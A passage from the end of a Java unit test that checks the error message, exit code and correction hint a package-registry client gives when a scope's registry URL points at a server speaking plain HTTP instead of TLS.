            assertEquals(ExitCode.NETWORK, failure.exitCode());
            assertEquals("registry tls-typo (" + root + "), which scope @prompd is routed to, failed: "
                    + Origin.of(root)
                    + " answered in plain HTTP, not TLS: a URL of a server that speaks plain HTTP starts"
                    + " with http://", failure.getMessage());
            assertTrue(failure.hint().endsWith("; " + typo.urlCorrection(PLAIN)), failure.hint());
        }
    }
}
